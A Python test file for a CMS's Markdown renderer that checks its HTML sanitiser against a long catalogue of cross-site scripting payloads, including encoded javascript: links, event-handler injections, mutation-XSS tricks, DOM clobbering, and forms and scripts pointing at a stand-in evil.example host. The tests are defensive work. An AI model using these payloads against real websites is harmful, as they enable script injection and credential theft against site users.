import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from mdit_py_plugins.gfm import gfm_plugin

from cms.core.markdown import Heading, render
from tests.core.safe_html import Elements, flaws

ROOT = Path(__file__).parents[2]

# Each of these does harm without a sanitiser: `test_without_defences...` proves it one by one.
LIVE = {
    # Link schemes, as written and as browsers read them.
    "javascript link": "[a](javascript:alert(1))",
    "mixed case": "[a](JaVaScRiPt:alert(1))",
    "entity in the scheme": "[a](&#106;avascript:alert(1))",
    "hexadecimal entity": "[a](java&#x73;cript:alert(1))",
    "named entity for the colon": "[a](javascript&colon;alert(1))",
    "escaped colon": r"[a](javascript\:alert(1))",
    "pointy brackets": "[a](<javascript:alert(1)>)",
    "vbscript": "[a](vbscript:msgbox(1))",
    "data page": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "file": "[a](file:///etc/passwd)",
    "blob": "[a](blob:https://example.com/1)",
    "app scheme": "[a](ms-msdt:/id)",
    "feed wrapper": "[a](feed:javascript:alert(1))",
    "view-source": "[a](view-source:https://example.com)",
    "autolink": "<javascript:alert(1)>",
    "autolink of data": "<data:text/html,x>",
    "autolink of an odd scheme": "<xmpp:a@b.example>",
    "reference": "[a][b]\n\n[b]: javascript:alert(1)",
    "reference with a title": '[a]\n\n[a]: vbscript:x "onclick=alert(1)"',
    "image": "![a](javascript:alert(1))",
    "image of SVG data": "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "image of PNG data": "![a](data:image/png;base64,AAAA)",
    "image reference": "![a][b]\n\n[b]: data:text/html,x",
    "image in a link": "[![a](javascript:1)](javascript:2)",
    # Raw HTML.
    "script": "<script>alert(1)</script>",
    "script in a line": "a <script>alert(1)</script> b",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "handler": "<img src=x onerror=alert(1)>",
    "handler after a slash": "<div><img/src=x/onerror=alert(1)>",
    "handler without a value": "<p onclick>x</p>",
    "handler on a heading": "<h1 onmouseover=alert(1)>x</h1>",
    "handler of details": "<details open ontoggle=alert(1)>x</details>",
    "handler with a newline": "<div><img src=x\nonerror\n=\nalert(1)>",
    "body": "<body onload=alert(1)>",
    "link with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "link with a control": '<a href="\x01javascript:alert(1)">x</a>',
    "link with spaces before": '<a href="  javascript:alert(1)">x</a>',
    "link with entities": "<a href=&#106&#97&#118&#97script:alert(1)>x</a>",
    "second href": '<a href="javascript:1" href="/ok">x</a>',
    "xlink": '<a xlink:href="javascript:alert(1)">x</a>',
    "ping and target": '<a href="/x" ping="//evil.example" target=_blank>x</a>',
    "iframe": "<iframe src=javascript:alert(1)></iframe>",
    "srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": "<object data=javascript:alert(1)></object>",
    "embed": "<embed src=//evil.example/x.swf>",
    "form": "<form action=//evil.example><input name=password><button>x</button></form>",
    "formaction": "<button formaction=javascript:alert(1)>x</button>",
    "image button": "<input type=image src=x onerror=alert(1)>",
    "enabled checkbox": "<input type=checkbox>",
    "label and select": "<label>x<select><option>y</select></label>",
    "base": "<base href=//evil.example/>",
    "meta refresh": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "stylesheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "style element": "<style>@import '//evil.example/x.css';</style>",
    "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "srcset": '<img src=x srcset="javascript:alert(1) 1x, //evil.example/y 2x">',
    "picture source": "<picture><source srcset=javascript:alert(1)><img src=x></picture>",
    "video": "<video poster=javascript:alert(1) src=x></video>",
    "SVG": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "SVG animation": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "SVG use": "<svg><use href=data:image/svg+xml,x></use></svg>",
    "MathML": "<math href=javascript:alert(1)>x</math>",
    "comment": "<!-- --!><img src=x onerror=alert(1)> -->",
    "processing instruction": "<?xml version='1.0'?>",
    "CDATA": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "unknown element": "<x-foo onclick=alert(1)>x</x-foo>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    # Names that shadow a page's own (DOM clobbering) and its styles.
    "clobbering id": "<p id=location>x</p>",
    "clobbering name": "<img src=x name=cookie>",
    "class of the page": '<p class="modal admin-bar">x</p>',
    "class of a state": "<div class='fixed inset-0 z-50'>x</div>",
    # Mutations: harmless until a browser parses what a sanitiser printed.
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "MathML and style": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;"
    "img src=1 onerror=alert(1)&gt;'>",
    "SVG and style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "form in table": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=1>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "textarea": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "title": '<title><p title="</title><img src=x onerror=alert(1)>">',
    "xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "noembed": "<noembed><img src='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "select": "<select><style></select><img src=x onerror=alert(1)></style>",
    "foreignObject": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "annotation": "<math><annotation-xml encoding=text/html><img src=x onerror=1></math>",
    "split by Markdown": "<div>\n\n<img src=x onerror=alert(1)>\n\n</div>",
    "in a table cell": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "in a heading": "# <img src=x onerror=alert(1)>",
    "in a footnote": "a[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "in an emphasis": "*<img src=x onerror=alert(1)>*",
}
# Dead on arrival in a correct Markdown parser, each a way out of an incorrect one.
DEAD = {
    "entity for a tab": "[a](java&Tab;script:alert(1))",
    "entity for a newline": "[a](java&NewLine;script:alert(1))",
    "fence language": '``` "><img src=x onerror=alert(1)>\nx\n```',
    "fence attribute": '```python" onclick="alert(1)\nx\n```',
    "fence content": "```html\n<script>alert(1)</script>\n```",
    "tilde fence": '~~~ `"><script>\nx\n~~~',
    "code span": "`<img src=x onerror=alert(1)>`",
    "title with a quote": "[a](/x \"b' onclick='alert(1)\")",
    "title with an entity": "[a](/x '&quot; onclick=&quot;alert(1)')",
    "alt text": '![" onerror="alert(1)](/x)',
    "alt with markup": "![<script>alert(1)</script>](/x)",
    "address with a quote": '[a](/x"onclick="alert(1))',
    "footnote label": 'a[^"><img/src=x/onerror=alert(1)>]\n\n[^"><img/src=x/onerror=alert(1)>]: b',
    "admonition kind": '::: note" onclick="alert(1)\nx\n:::',
    "admonition title": "::: tip <img src=x onerror=alert(1)>\nx\n:::",
    "heading id": '# "><img/src=x>\n\n# location\n\n# __proto__\n\n# constructor',
    "escaped element": r"\<script>alert(1)\</script>",
    "entities of an element": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "bare address with a quote": "https://example.com/\"onmouseover='alert(1)'",
    "spaced scheme": "[a](java script:alert(1))",
    "null in an element": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "source in a title": "<img title=' src='>",
    "unclosed quote": '<img alt="\n\n# Judul\n\n"onerror=alert(1)>',
}


def without_defences(source: str) -> str:
    markdown = MarkdownIt("commonmark", {"html": True}).use(gfm_plugin)
    object.__setattr__(markdown, "validateLink", lambda _url: True)
    return str(markdown.render(source))


@pytest.mark.parametrize("name", LIVE | DEAD)
def test_nothing_but_the_allowed_html_survives(name: str) -> None:
    assert flaws(render((LIVE | DEAD)[name]).html) == []


@pytest.mark.parametrize("name", LIVE)
def test_without_defences_each_live_payload_is_caught_by_the_oracle(name: str) -> None:
    assert flaws(without_defences(LIVE[name])) != []


# Whole payloads, openings of blocks, and crumbs to break both with.
PIECES = (
    st.sampled_from([*LIVE.values(), *DEAD.values()])
    | st.sampled_from(["\n\n", "\n> ", "\n- ", "\n# ", "\n```html\n", "[^1]", "[^1]: ", "::: tip"])
    | st.text("\n\t <>\"'`=/[]()!&#;:|~*_\\-^\x00aox1", max_size=12)
    | st.text(max_size=8)
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=12).map("".join))
def test_whatever_is_pieced_together_only_allowed_html_comes_out(source: str) -> None:
    rendered = render(source)
    assert flaws(rendered.html) == []
    anchors = set(re.findall(r'<h[1-6] id="([^"]*)"', rendered.html))
    assert {heading.id for heading in flat(rendered.toc)} <= anchors
    assert len(rendered.excerpt) <= 200


def flat(headings: tuple[Heading, ...]) -> list[Heading]:
    return [each for heading in headings for each in (heading, *flat(heading.children))]


@pytest.mark.parametrize("forged", ["h-isi", "fn-1", "fnref-1", "task-1", "isi", "location"])
def test_an_id_of_the_authors_never_passes_for_ours(forged: str) -> None:
    source = f"<p id={forged}>x</p>\n\n# Isi[^1]\n\n- [x] <b id={forged}>y</b>\n\n[^1]: z"
    assert Elements(render(source).html).ids() == ["h-isi", "fnref-1", "task-1", "fn-1"]


def test_what_an_unclosed_quote_swallows_becomes_plain_text() -> None:
    page = render("<p><img src=x alt='\n\n# Isi\n\n<p>'>")
    (image,) = Elements(page.html).named("img")
    assert image["alt"] == '\n<h1 id="h-isi">Isi</h1>\n<p>'
    assert page.toc == ()


def test_the_same_source_gives_the_same_bytes_in_any_process() -> None:
    source = "\n\n".join((LIVE | DEAD).values())
    script = "import sys; from cms.core.markdown import render; print(ascii(render(sys.argv[1])))"
    answers = {
        subprocess.run(
            [sys.executable, "-c", script, source.replace("\x00", "")],
            env={**os.environ, "PYTHONHASHSEED": seed},
            cwd=ROOT,
            capture_output=True,
            check=True,
        ).stdout
        for seed in ("1", "2", "3")
    }
    assert answers == {ascii(render(source.replace("\x00", ""))).encode() + b"\n"}
